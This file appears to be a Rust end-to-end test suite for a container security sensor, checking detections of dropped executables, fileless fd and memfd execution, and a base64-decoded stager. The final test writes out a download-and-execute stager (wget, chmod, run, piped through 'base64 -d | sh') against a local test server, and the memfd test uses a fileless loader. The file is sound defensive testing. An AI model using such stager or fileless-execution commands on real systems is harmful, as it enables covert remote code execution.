//! Issue 4, kind 3: executables written into the container's writable layer at any path and run
//! (also inside `docker exec` sessions), fileless execution (a descriptor of an image file, a
//! real memfd loader), and a decoded stager whose payload downloads and runs a binary.
//!
//! Busybox `sh` runs applets of a pipeline in-process through /proc/self/exe; explicit paths
//! (`/bin/base64`, `/bin/sh`) force real execs, and the sensor keys on argv[0].

use sensor_e2e::{
    checks::assert_detection, docker, field, random_in, sleeper_script, static_tools, test_image,
    text, token, HttpServer, Scope, Sensor, TempDir, Value, DETECTION_TIMEOUT,
};

/// The detection of `rule` for the exec of `path` in container `name`.
fn expect_exec(sensor: &Sensor, rule: &str, name: &str, path: &str) -> Value {
    sensor.expect(
        &format!("{rule} for {path} in {name}"),
        |d| {
            text(d, "rule") == rule
                && text(d, "container.name") == name
                && text(d, "process.filename") == path
        },
        DETECTION_TIMEOUT,
    )
}

/// The facts every dropped-executable detection must carry.
fn assert_dropped(d: &Value, name: &str, path: &str) {
    assert_detection(d, "dropped-executable", "high", "T1105", name);
    assert_eq!(text(d, "evidence.executed"), path, "{d}");
    assert_eq!(field(d, "evidence.written_in_container"), true, "{d}");
    let layer = text(d, "evidence.layer_path");
    assert!(
        layer.ends_with(path) && layer.len() > path.len(),
        "layer_path {layer:?} is not the host path of {path}: {d}"
    );
}

#[test]
fn executables_dropped_outside_tmp() {
    let scope = Scope::new();
    let sensor = Sensor::start(&[]);
    let name = scope.name("appsrv");
    // A script under /usr/local/lib, and a copied ELF binary under /opt/<x>/bin.
    let script = format!("/usr/local/lib/lib{}", token(6));
    let binary = format!("/opt/o{}/bin/b{}", token(4), token(5));
    let bin_dir = binary.rsplit_once('/').unwrap().0;
    let command = format!(
        "mkdir -p /usr/local/lib {bin_dir} && printf '#!/bin/sh\\nsleep 3\\n' > {script} && chmod 755 {script} \
         && {script}; cp /bin/busybox {binary} && chmod +x {binary}; {binary}; sleep 3"
    );
    let image = test_image();
    docker::run_detached(&name, &[&image, "sh", "-c", &command]);

    let d = expect_exec(&sensor, "dropped-executable", &name, &script);
    assert_dropped(&d, &name, &script);
    assert_eq!(
        field(&d, "evidence.size"),
        "#!/bin/sh\nsleep 3\n".len(),
        "{d}"
    );
    let d = expect_exec(&sensor, "dropped-executable", &name, &binary);
    assert_dropped(&d, &name, &binary);
    // A copy of the image's static busybox, not a script.
    assert!(
        field(&d, "evidence.size")
            .as_u64()
            .is_some_and(|s| s > 100_000),
        "the copied binary's size: {d}"
    );
}

#[test]
fn executable_dropped_in_a_docker_exec_session() {
    let scope = Scope::new();
    let sensor = Sensor::start(&[]);
    let name = scope.name("plainsvc");
    let image = test_image();
    docker::run_detached(&name, &[&image, "sleep", "120"]);
    let dir = format!("/srv/s{}", token(5));
    let path = format!("{dir}/job{}", token(4));
    let write = format!("mkdir -p {dir} && printf '#!/bin/sh\\nsleep 2\\n' > {path}");
    docker::ok("exec write", docker::exec(&name, &["sh", "-c", &write]));
    docker::ok("exec chmod", docker::exec(&name, &["chmod", "700", &path]));
    docker::ok("exec run", docker::exec(&name, &[&path]));

    let d = expect_exec(&sensor, "dropped-executable", &name, &path);
    assert_dropped(&d, &name, &path);
}

/// A volume is outside the writable layer, but a file that appears there after the workload
/// started was put there by a container: running it is a dropped executable too. The image's
/// own programs, copied into a fresh volume mounted over their directory before the workload
/// starts, are not.
#[test]
fn executable_dropped_on_a_volume() {
    let scope = Scope::new();
    let sensor = Sensor::start(&[]);
    let name = scope.name("cachesvc");
    let volume = scope.name("cache");
    let anonymous_dir = format!("/var/w{}", token(5));
    let on_named = format!("/srv/c{}/.k{}", token(4), token(4));
    let named_dir = on_named.rsplit_once('/').unwrap().0.to_string();
    let on_anonymous = format!("{anonymous_dir}/run{}", token(3));
    // /bin gets a fresh anonymous volume filled from the image; running its programs is not a
    // drop. (Busybox applets run by absolute path are real execs.)
    let command = format!(
        "/bin/uname -a >/dev/null; /bin/busybox true; \
         printf '#!/bin/sh\\nsleep 3\\n' > {on_named} && chmod +x {on_named} && {on_named}; \
         cp /bin/busybox {on_anonymous} && {on_anonymous} sleep 3"
    );
    let image = test_image();
    let named = format!("{volume}:{named_dir}");
    docker::run_detached(
        &name,
        &[
            "-v",
            &named,
            "-v",
            &anonymous_dir,
            "-v",
            "/bin",
            &image,
            "sh",
            "-c",
            &command,
        ],
    );

    for path in [&on_named, &on_anonymous] {
        let d = expect_exec(&sensor, "dropped-executable", &name, path);
        assert_detection(&d, "dropped-executable", "high", "T1105", &name);
        assert_eq!(text(&d, "evidence.detected_by"), "volume", "{d}");
        let on_host = text(&d, "evidence.volume_path");
        assert!(
            on_host.contains("/volumes/")
                && on_host.ends_with(path.rsplit('/').next().unwrap_or_default()),
            "volume_path {on_host:?} is not the volume's copy of {path}: {d}"
        );
    }
    docker::wait_exited(&name, std::time::Duration::from_secs(30));
    let from_image: Vec<String> = sensor
        .detections_for_container(&name)
        .iter()
        .filter(|d| text(d, "process.filename").starts_with("/bin/"))
        .map(Value::to_string)
        .collect();
    assert!(
        from_image.is_empty(),
        "the image's programs copied into a volume were reported: {from_image:?}"
    );
}

/// `cd dir && ./x`: the kernel sees only `./x`. A process that exits at once, or moves to
/// another directory first thing, leaves no working directory to resolve it against; the
/// executed file is found in the writable layer by its inode all the same.
#[test]
fn executables_dropped_and_run_by_a_relative_name() {
    let scope = Scope::new();
    let sensor = Sensor::start(&[]);
    let image = test_image();
    let dir = format!("/opt/r{}", token(4));
    let cases: Vec<(String, String)> = (0..3)
        .map(|i| {
            let name = scope.name(&format!("relexec{i}"));
            let file = format!("t{}", token(5));
            // Alternately: exits at once, or changes directory and lingers.
            let run = if i % 2 == 0 {
                format!("./{file} true")
            } else {
                format!("./{file} sh -c 'cd /etc; sleep 3'")
            };
            let command =
                format!("mkdir -p {dir} && cp /bin/busybox {dir}/{file} && cd {dir} && {run}");
            docker::run_detached(&name, &[&image, "sh", "-c", &command]);
            (name, file)
        })
        .collect();

    for (name, file) in &cases {
        let relative = format!("./{file}");
        let d = expect_exec(&sensor, "dropped-executable", name, &relative);
        assert_detection(&d, "dropped-executable", "high", "T1105", name);
        let layer = text(&d, "evidence.layer_path");
        assert!(
            layer.ends_with(&format!("{dir}/{file}")),
            "layer_path {layer:?} does not name {dir}/{file}: {d}"
        );
    }

    // The same on an anonymous volume, by a process that exits at once. (The volume is known
    // from Docker's description, which arrives a moment after the container starts: see the
    // README's LIMITATION on the first instants of a container.)
    let volume_dir = format!("/v{}", token(4));
    let name = scope.name("relvolume");
    let file = format!("u{}", token(5));
    let command = format!(
        "sleep 1; mkdir -p {volume_dir}/w && cp /bin/busybox {volume_dir}/w/{file} && \
         cd {volume_dir} && w/{file} true"
    );
    docker::run_detached(&name, &["-v", &volume_dir, &image, "sh", "-c", &command]);
    let d = expect_exec(&sensor, "dropped-executable", &name, &format!("w/{file}"));
    assert_detection(&d, "dropped-executable", "high", "T1105", &name);
    let on_host = text(&d, "evidence.volume_path");
    assert!(
        on_host.ends_with(&format!("/w/{file}")),
        "volume_path {on_host:?}: {d}"
    );
}

#[test]
fn execution_from_a_file_descriptor_is_fileless() {
    let scope = Scope::new();
    let sensor = Sensor::start(&[]);
    let name = scope.name("fdexec");
    let applet = ["sleep", "true", "echo", "uname"][random_in(0..4) as usize];
    let (fd_a, fd_b) = (random_in(3..6), random_in(6..10));
    let proc_path = format!("/proc/self/fd/{fd_a}");
    let dev_path = format!("/dev/fd/{fd_b}");
    // Busybox started as "/proc/self/fd/N" finds no applet of that name and exits: the exec
    // itself is the signal.
    let command = format!(
        "exec {fd_a}</bin/{applet}; {proc_path} 1; exec {fd_b}</bin/{applet}; {dev_path} 1; \
         sleep 2"
    );
    let image = test_image();
    docker::run_detached(&name, &[&image, "sh", "-c", &command]);

    for path in [&proc_path, &dev_path] {
        let d = expect_exec(&sensor, "fileless-execution", &name, path);
        assert_detection(&d, "fileless-execution", "high", "T1620", &name);
        assert_eq!(text(&d, "evidence.executed"), path.as_str(), "{d}");
        assert!(!text(&d, "evidence.target").is_empty(), "no target: {d}");
    }
}

#[test]
fn memfd_loader_is_fileless() {
    let loader = static_tools::memfd_exec();
    let scope = Scope::new();
    let sensor = Sensor::start(&[]);
    let name = scope.name("loader");
    let tool = format!("/usr/local/bin/l{}", token(5));
    let memfd_name = format!("m{}", token(6));
    let mount = format!("{}:{tool}:ro", loader.display());
    let image = test_image();
    docker::run_detached(
        &name,
        &[
            "-v",
            &mount,
            &image,
            &tool,
            "--name",
            &memfd_name,
            "/bin/busybox",
            "sleep",
            "3",
        ],
    );

    let d = sensor.expect(
        &format!("fileless-execution in {name}"),
        |d| text(d, "rule") == "fileless-execution" && text(d, "container.name") == name,
        DETECTION_TIMEOUT,
    );
    assert_detection(&d, "fileless-execution", "high", "T1620", &name);
    let filename = text(&d, "process.filename");
    assert!(
        filename.starts_with("/dev/fd/") || filename.starts_with("/proc/self/fd/"),
        "execveat(AT_EMPTY_PATH) should show as a descriptor path: {d}"
    );
    let target = text(&d, "evidence.target");
    assert!(
        target.contains("memfd") && target.contains(&memfd_name),
        "the target does not name the memfd: {d}"
    );
    assert_eq!(
        field(&d, "process.argv"),
        &serde_json::json!(["sleep", "3"]),
        "{d}"
    );
    // The loader is bind-mounted, not written in the container.
    let dropped: Vec<Value> = sensor
        .detections_for_container(&name)
        .into_iter()
        .filter(|d| text(d, "rule") == "dropped-executable")
        .collect();
    assert!(
        dropped.is_empty(),
        "the mounted loader was called dropped: {dropped:?}"
    );
}

/// Writes a (non-executable) script and runs it through the shell with `shell_command`.
fn script_through_the_shell(shell_command: &str) {
    let scope = Scope::new();
    let sensor = Sensor::start(&[]);
    let name = scope.name("cron");
    let script = format!("/var/lib/j{}/task{}.sh", token(4), token(4));
    let dir = script.rsplit_once('/').unwrap().0;
    let command = format!(
        "mkdir -p {dir} && printf 'sleep 2\\n' > {script} && {shell_command} {script}; sleep 1"
    );
    let image = test_image();
    docker::run_detached(&name, &[&image, "sh", "-c", &command]);

    let d = sensor.expect(
        &format!("dropped-executable for {script} in {name}"),
        |d| text(d, "rule") == "dropped-executable" && text(d, "container.name") == name,
        DETECTION_TIMEOUT,
    );
    assert_dropped(&d, &name, &script);
    assert_eq!(text(&d, "evidence.script"), script, "{d}");
}

#[test]
fn script_run_through_the_shell_by_path() {
    script_through_the_shell("/bin/sh");
}

#[test]
fn script_run_through_the_shell_by_applet_name() {
    script_through_the_shell("sh");
}

/// Standard base64 with padding (the stager's encoding).
fn base64(bytes: &[u8]) -> String {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let n = chunk
            .iter()
            .enumerate()
            .fold(0u32, |n, (i, b)| n | (*b as u32) << (16 - 8 * i));
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(ALPHABET[(n >> (18 - 6 * i) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

#[test]
fn decoded_stager_downloads_and_runs_a_payload() {
    assert_eq!(base64(b"ab"), "YWI=");
    assert_eq!(base64(b"abcd"), "YWJjZA==");
    let scope = Scope::new();
    let sensor = Sensor::start(&[]);
    let files = TempDir::new("stage");
    let url_path = format!("static/{}/u{}", token(4), token(5));
    files.write(&url_path, &sleeper_script(5), 0o644);
    let server = HttpServer::start(files.path());
    let url = server.url(&url_path);
    let payload = format!("/tmp/p{}", token(6));
    let stage = format!("wget -q {url} -O {payload} && chmod +x {payload} && {payload}\n");
    let command = format!(
        "echo {} | /bin/base64 -d | /bin/sh",
        base64(stage.as_bytes())
    );
    let name = scope.name("stager");
    let image = test_image();
    docker::run_detached(&name, &["--network", "host", &image, "sh", "-c", &command]);

    let d = sensor.expect(
        &format!("decoded-payload-executed in {name}"),
        |d| text(d, "rule") == "decoded-payload-executed" && text(d, "container.name") == name,
        DETECTION_TIMEOUT,
    );
    assert_detection(&d, "decoded-payload-executed", "high", "T1140", &name);
    let decoder = text(&d, "evidence.decoder");
    assert!(
        decoder.contains("base64") && decoder.contains("-d"),
        "decoder: {d}"
    );
    assert!(text(&d, "evidence.shell").contains("sh"), "shell: {d}");

    let dropped = expect_exec(&sensor, "dropped-executable", &name, &payload);
    assert_dropped(&dropped, &name, &payload);
    assert!(
        text(&dropped, "evidence.decoded_stager.decoder").contains("base64"),
        "the payload is not linked to the stager: {dropped}"
    );
    let history = field(&dropped, "evidence.history").to_string();
    assert!(
        history.contains(&url),
        "the download is not in the history: {dropped}"
    );
}
